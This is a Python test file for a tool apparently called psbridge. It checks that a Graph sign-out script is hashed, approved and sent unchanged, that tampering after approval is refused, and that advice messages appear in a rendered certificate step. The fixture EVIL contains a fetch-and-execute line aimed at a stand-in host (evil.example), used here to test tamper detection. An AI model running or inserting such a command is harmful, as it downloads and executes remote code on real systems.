"""Issue 19 item 2(a): a graph package's Graph sign-out is a package file, judged like lock.ps1.

"What is judged (hashed, verified, approved) is what is sent." signout.ps1 is rendered into
a graph package, listed in plan.json's files and REVIEW.md's Files and hashes, covered by the
approval's digest and the gate; `run`, `check` and `rollback` send the verified package's
bytes last, never the template rendered again nor the file read again after the gate.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from psbridge.cli import main
from psbridge.errors import UserError
from psbridge.files import sha256_hex
from psbridge.package import SIGNOUT_SCRIPT, Package, read_package
from psbridge.parameters import EXAMPLE, parse_parameters
from psbridge.remote import inputs as remote
from psbridge.remote.gate import GateRequest, prepare
from psbridge.render import BOM, render_package

from support.cli import check_args
from support.packages import answer_probes, review_section, write_check_package
from support.probe_states import state
from support.winrm_peer import Engine, Reply, WinRMPeer

GRAPH_TOKEN = "eyJ0eXAi.graph-T0ken$;'x"
DISCONNECT = "# psbridge disconnect:"
EVIL = BOM + b"# psbridge disconnect: swapped\r\nInvoke-WebRequest https://evil.example/x | Invoke-Expression\r\n"


@pytest.fixture
def graph_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PSBRIDGE_GRAPH_TOKEN", GRAPH_TOKEN)


def _graph_args(command: str, pkg: Path, peer: WinRMPeer, *extra: str) -> list[str]:
    """`psbridge COMMAND` against the loopback peer, signing in to Graph with the token (no --o365-user)."""
    args = [command, *check_args(pkg, peer)[1:], *extra]
    at = args.index("--o365-user")
    del args[at:at + 2]
    return args


def _rendered(profile: str) -> dict[str, bytes]:
    data: dict[str, Any] = copy.deepcopy(EXAMPLE)
    data["profile"] = profile
    return render_package(parse_parameters(data)).files


def _flip_middle_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))


# --------------------------------------------------------------------------- the package


def test_a_graph_package_holds_signout_ps1_hashed_in_plan_json_and_review_md() -> None:
    files = _rendered("graph")
    data = files[SIGNOUT_SCRIPT]
    assert data.startswith(BOM + b"# psbridge disconnect:") and b"Disconnect-MgGraph -ErrorAction Stop\r\n" in data
    assert b"\n" not in data.replace(b"\r\n", b"")  # CRLF throughout, like lock.ps1
    plan = json.loads(files["plan.json"])
    assert plan["files"][SIGNOUT_SCRIPT] == sha256_hex(data)
    review = files["REVIEW.md"].decode("utf-8")
    assert f"{sha256_hex(data)}  {SIGNOUT_SCRIPT}" in review.splitlines()
    lock_section = " ".join(n.content for node in review_section(review, "The run lock (`psbridge run`)")
                            for n in node.children if n.type == "inline")
    assert f"`{SIGNOUT_SCRIPT}` (Disconnect-MgGraph, sha256 `{sha256_hex(data)}`" in " ".join(lock_section.split())
    package = Package(files)
    assert package.signout_script == data.decode("utf-8-sig")


def test_an_msonline_package_has_no_signout_ps1() -> None:
    files = _rendered("msonline")
    assert SIGNOUT_SCRIPT not in files
    assert SIGNOUT_SCRIPT not in json.loads(files["plan.json"])["files"]
    assert SIGNOUT_SCRIPT not in files["REVIEW.md"].decode("utf-8")
    assert Package(files).signout_script is None


def test_a_graph_package_without_signout_ps1_is_refused_naming_it() -> None:
    """A graph package written before the sign-out was a package file: intact, but it can't end a session."""
    files = _rendered("graph")
    del files[SIGNOUT_SCRIPT]
    plan = json.loads(files["plan.json"])
    del plan["files"][SIGNOUT_SCRIPT]
    files["plan.json"] = json.dumps(plan).encode("utf-8")
    package = Package(files)
    assert package.require_intact() is package
    with pytest.raises(UserError) as caught:
        package.signout_script  # noqa: B018
    assert caught.value.problems == (f"{package.label}: no signout.ps1; render the package again with this psbridge",)


# --------------------------------------------------------------------------- the gate


def test_signout_ps1_changed_after_approval_is_refused_naming_the_file(psbridge, tmp_path, keys) -> None:
    """The mirror of test_approval's changed-byte test for lock.ps1, on a graph package's signout.ps1."""
    pkg = write_check_package(tmp_path, "graph")
    assert psbridge("approve", pkg, "--key", keys["jane"]).exit_code == 0
    assert psbridge("verify", pkg, "--trusted-keys", keys["trusted"]).exit_code == 0
    _flip_middle_byte(pkg / SIGNOUT_SCRIPT)
    result = psbridge("verify", pkg, "--trusted-keys", keys["trusted"])
    assert result.exit_code == 1
    assert "too few approvals" in result.stderr
    assert f"changed file: {SIGNOUT_SCRIPT}" in result.stderr
    assert f"changed since approval: {SIGNOUT_SCRIPT}" in result.stderr


def test_the_gate_refuses_an_altered_signout_ps1_even_with_its_hash_updated(tmp_path, keys) -> None:
    """Hash and plan.json edited to match: intact, but neither what psbridge renders nor what was approved."""
    from psbridge.approvals import ApprovalPolicy

    pkg = write_check_package(tmp_path, "graph")
    assert main(["approve", str(pkg), "--key", str(keys["jane"])]) == 0
    (pkg / SIGNOUT_SCRIPT).write_bytes(EVIL)
    plan = json.loads((pkg / "plan.json").read_bytes())
    plan["files"][SIGNOUT_SCRIPT] = sha256_hex(EVIL)
    (pkg / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    assert read_package(pkg).require_intact().signout_script == EVIL.decode("utf-8-sig")  # intact: hashes match
    with pytest.raises(UserError) as unapproved:
        prepare(GateRequest(pkg))
    assert any(SIGNOUT_SCRIPT in p and "not what psbridge" in p for p in unapproved.value.problems), \
        unapproved.value.problems
    with pytest.raises(UserError) as approved:
        prepare(GateRequest(pkg, policy=ApprovalPolicy(trusted_keys=keys["trusted"])))
    assert any(SIGNOUT_SCRIPT in p for p in approved.value.problems), approved.value.problems


def test_run_require_approval_with_an_altered_signout_ps1_sends_nothing(tmp_path, engine: Engine, http_peer,
                                                                        secrets_env, graph_token, keys,
                                                                        capsys) -> None:
    pkg = write_check_package(tmp_path, "graph")
    assert main(["approve", str(pkg), "--key", str(keys["jane"])]) == 0
    _flip_middle_byte(pkg / SIGNOUT_SCRIPT)
    code = main(_graph_args("run", pkg, http_peer, "--yes", "--require-approval", "--trusted-keys",
                            str(keys["trusted"])))
    err = capsys.readouterr().err
    assert code == 2, err
    assert f"changed file: {SIGNOUT_SCRIPT}" in err
    assert engine.pipelines == [] and http_peer.connections == 0


# --------------------------------------------------------------------------- what is sent


def _no_template_after_the_gate(*_: object, **__: object) -> None:
    raise AssertionError("a template was rendered after the gate")


def _swap_after_the_gate(monkeypatch: pytest.MonkeyPatch, pkg: Path) -> list[str]:
    """When the WinRM password is asked (after the gate read and judged the package), replace signout.ps1
    on disk and psbridge's render of it with EVIL, and make any Jinja template fail: what is sent must
    be the bytes the gate judged, not the file read again nor the template rendered again."""
    import jinja2

    import psbridge.render as render

    real = remote.read_secret
    asked: list[str] = []

    def read_secret(env_var: str, what: str, **kwargs: Any) -> str:
        if env_var == "PSBRIDGE_WINRM_PASSWORD":
            asked.append(env_var)
            (pkg / SIGNOUT_SCRIPT).write_bytes(EVIL)
            monkeypatch.setattr(render, "signout_bytes", lambda: EVIL)
            monkeypatch.setattr(jinja2.Environment, "get_template", _no_template_after_the_gate)
            monkeypatch.setattr(jinja2.Environment, "from_string", _no_template_after_the_gate)
        return real(env_var, what, **kwargs)

    monkeypatch.setattr(remote, "read_secret", read_secret)
    return asked


def test_a_graph_run_sends_the_packages_signout_bytes_last(tmp_path, engine: Engine, http_peer, secrets_env,
                                                           graph_token, monkeypatch, capsys) -> None:
    pkg = write_check_package(tmp_path, "graph")
    approved = (pkg / SIGNOUT_SCRIPT).read_bytes()
    asked = _swap_after_the_gate(monkeypatch, pkg)
    engine.when(DISCONNECT, Reply(output=["signed out"]))
    assert main(_graph_args("run", pkg, http_peer, "--yes")) == 0, capsys.readouterr()
    assert asked == ["PSBRIDGE_WINRM_PASSWORD"]  # the swap happened, mid-command
    # the last pipeline but the server lock's heartbeats and release (which follows the sign-out)
    last = [p for p in engine.pipelines if not (p.parameters.get("Release") or p.parameters.get("Heartbeat"))][-1]
    assert BOM + last.script.encode("utf-8") == approved  # the package's bytes, decoded like lock.ps1
    assert sum(p.script.startswith(DISCONNECT) for p in engine.pipelines) == 1
    assert all("evil.example" not in s for s in engine.scripts())


def test_check_sends_the_packages_signout_bytes_last(tmp_path, engine: Engine, http_peer, secrets_env, graph_token,
                                                     monkeypatch, capsys) -> None:
    pkg = write_check_package(tmp_path, "graph")
    approved = (pkg / SIGNOUT_SCRIPT).read_bytes()
    _swap_after_the_gate(monkeypatch, pkg)
    answer_probes(engine, state("fully configured"))
    assert main(_graph_args("check", pkg, http_peer)) == 0, capsys.readouterr()
    assert BOM + engine.pipelines[-1].script.encode("utf-8") == approved
    assert all("evil.example" not in s for s in engine.scripts())


# --------------------------------------------------------------------------- app-certificate's advice (issue 19 item 9)

ADVICE = ("psbridge cert new --days 365", "--like OLD --days 365 for a renewal")


def _app_certificate(adopt: bool, renewal: bool) -> str:
    """Step app-certificate of an app-trust package, as rendered, after a clean parse."""
    from psbridge.render import render_steps
    from support.app_entra import app_data
    from support.pwsh_grammar import syntax_errors

    rendered = render_steps(parse_parameters(app_data(adopt, renewal)))
    [text] = [r.text for r in rendered if r.step.id == "app-certificate"]
    assert syntax_errors(text) == []
    return text


def _throw_in(node: Any) -> str:
    """The one throw statement's text under `node` (an if statement or a catch clause)."""
    from support.pwsh_grammar import walk

    [throw] = [n for n in walk(node) if n.type == "flow_control_statement" and n.children[0].type == "throw"]
    return throw.text.decode("utf-8")


@pytest.mark.parametrize(("adopt", "renewal"), [(False, False), (False, True), (True, False), (True, True)])
def test_app_certificate_names_cert_new_days_365_where_graph_shortened_or_refused(adopt: bool, renewal: bool) -> None:
    from support.pwsh_grammar import command_invocations, parse, string_literal_spans, walk

    text = _app_certificate(adopt, renewal)
    nodes = list(walk(parse(text).root_node))

    def branch(condition: str) -> Any:
        """The if statement whose condition is `condition`."""
        [found] = [n for n in nodes if n.type == "if_statement"
                   and next(c for c in n.children if c.type == "pipeline").text.decode() == condition]
        return found

    [write] = [c for c in command_invocations(text) if c.name == "Update-MgApplication"]
    [attempt] = [n for n in nodes if n.type == "try_statement" and n.start_byte <= write.start_byte < n.end_byte]
    refused = _throw_in(next(n for n in walk(attempt) if n.type == "catch_clause"))
    shortened_before = _throw_in(branch("$Short.Count -gt 0"))
    shortened_now = _throw_in(branch("$ShownEnd -lt $NotAfter.AddSeconds(-1)"))
    literals = [text[a:b] for a, b in string_literal_spans(text)]
    for message in (refused, shortened_before, shortened_now):
        for advice in ADVICE:
            assert advice in message, (advice, message[:120])
            assert any(advice in literal for literal in literals if literal in message)  # a message, not code
    assert "$_.Exception.Message" in refused and "$ShownEnd.ToString('o')" in shortened_now
